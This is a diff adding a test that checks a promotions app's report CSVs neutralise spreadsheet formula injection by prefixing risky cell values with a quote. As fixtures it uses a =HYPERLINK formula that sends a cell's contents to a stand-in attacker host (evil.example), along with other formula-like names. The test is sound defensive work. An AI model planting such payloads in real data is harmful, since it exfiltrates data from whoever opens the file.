@@ -167,3 +167,32 @@ def test_reports_are_read_by_every_role_and_only_in_their_tenant(admin: Admin) -
     home = b.get("/admin/reports").text
     assert "Mine" in home and "Theirs" not in home
     assert admin.api.client.get(f"/admin/reports/{pid}", follow_redirects=False).status_code == 303
+
+
+def test_report_csvs_keep_names_that_look_like_formulas_inert(admin: Admin) -> None:
+    """Any API key names promotions and stores: in every report CSV (the screen's and the API's) a name a
+    spreadsheet would run as a formula starts with ' instead; numbers, negative ones too, stay numbers."""
+    api = admin.api
+    name, store = '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+2"
+    pid = promotion(api, name, start="2026-03-01", end="2026-03-31")
+    cid = contact(api, email="f@example.com")
+    coupon = assign(api, cid, pid)
+    assert api.put(f"/api/v2/stores/{store}", json={"name": "@SUM(A1:A9)"}).status_code in (200, 201)
+    r = api.post(
+        f"/api/v2/promotions/codes/{coupon}/redeem",
+        json={"redemptionChannel": "POS", "storeExternalId": store},
+    )
+    assert r.status_code == 200, r.text
+    other = promotion(api, "-1+1")
+    viewer = admin.browser("viewer")
+    files = [viewer.get(f"/admin/reports/{pid}/{view}.csv") for view in ("funnel", "by-store")]
+    files.append(viewer.get("/admin/reports/compare.csv", params={"a": pid, "b": other}))
+    files.append(api.get(f"/api/v2/reports/promotions/{pid}", params={"format": "csv"}))
+    for response in files:
+        cells = [c for row in csv.reader(io.StringIO(response.text)) for c in row]
+        live = [
+            c for c in cells if c[:1] in ("=", "+", "@", "-") and not c.lstrip("-").replace(".", "").isdigit()
+        ]
+        assert cells and live == [], live
+    assert f"'{name}" in files[0].text.replace('""', '"') and f"'{store}" in files[1].text
+    assert "'@SUM(A1:A9)" in files[1].text and "'-1+1" in files[2].text
